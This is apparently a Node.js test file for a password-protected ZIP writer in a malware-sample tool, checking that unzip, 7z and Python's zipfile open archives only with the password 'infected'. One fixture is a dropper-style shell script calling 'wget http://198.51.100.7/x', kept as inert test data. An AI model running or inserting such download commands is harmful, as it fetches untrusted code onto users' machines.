// Whether other programs open our ZIPs: unzip, 7z and Python's zipfile, with the password and not without.
import assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import { createHash, randomBytes } from 'node:crypto';
import { existsSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { open } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, test } from 'node:test';
import { zipOf } from './zip.ts';

const directory = mkdtempSync(join(tmpdir(), 'kansatsuki-zip-'));
after(() => rmSync(directory, { recursive: true }));

const CONTENTS: [what: string, bytes: Buffer][] = [
  ['nothing', Buffer.alloc(0)],
  ['one byte', Buffer.from([0])],
  ['a script', Buffer.from('#!/bin/sh\nwget http://198.51.100.7/x\n')],
  ['just a chunk', randomBytes(65_536)],
  ['several chunks', Buffer.concat([Buffer.alloc(100_000, 0xff), randomBytes(100_001)])],
];

/** Reads a ZIP's one file; undefined when the password is refused. */
const READERS: [program: string, read: (zip: string, password: string) => Buffer | undefined][] = [
  ['unzip', (zip, password) => output('unzip', ['-p', '-P', password, zip])],
  ['7z', (zip, password) => output('7z', ['x', '-so', `-p${password}`, zip])],
  [
    'python3',
    (zip, password) =>
      output('python3', [
        '-c',
        'import sys,zipfile;z=zipfile.ZipFile(sys.argv[1]);sys.stdout.buffer.write(z.read(z.namelist()[0],sys.argv[2].encode()))',
        zip,
        password,
      ]),
  ],
];

function output(program: string, argv: string[]): Buffer | undefined {
  const { status, stdout } = spawnSync(program, argv, { maxBuffer: 1 << 24, timeout: 20_000 });
  return status === 0 ? stdout : undefined;
}

async function zipped(bytes: Buffer): Promise<{ path: string; name: string }> {
  const name = createHash('sha256').update(bytes).digest('hex');
  const path = join(directory, name);
  writeFileSync(path, bytes);
  const file = await open(path);
  try {
    const modified = new Date('2026-08-21T13:14:15Z');
    const zip = await zipOf(file, name, { password: 'infected', modified, header: randomBytes(12) });
    const pieces: Uint8Array[] = [];
    for await (const piece of zip.pieces()) pieces.push(piece);
    const whole = Buffer.concat(pieces);
    assert.equal(whole.length, zip.length);
    if (bytes.length > 20) assert.ok(!whole.includes(bytes.subarray(0, 20)), 'the content is not there in plain');
    writeFileSync(`${path}.zip`, whole);
    return { path: `${path}.zip`, name };
  } finally {
    await file.close();
  }
}

for (const [program, read] of READERS) {
  const there = (process.env['PATH'] ?? '').split(':').some((folder) => existsSync(join(folder, program)));
  test(`${program} opens it with the password only`, {
    skip: there ? false : `${program} is not installed`,
  }, async () => {
    for (const [what, bytes] of CONTENTS) {
      const { path } = await zipped(bytes);
      assert.deepEqual(read(path, 'infected'), bytes, what);
      if (what === 'a script') assert.equal(read(path, 'wrong'), undefined, what);
    }
  });
}

test('unzip lists it: name, size, time, permissions of no program', {
  skip: existsSync('/usr/bin/unzip') ? false : 'unzip is not installed',
}, async () => {
  const bytes = Buffer.from('hello');
  const { path, name } = await zipped(bytes);
  const listed = output('unzip', ['-Zl', path])!.toString();
  assert.match(listed, new RegExp(`^-rw------- +2\\.0 unx +5 B- +17 stor 26-Aug-21 13:14 ${name}$`, 'm'));
});
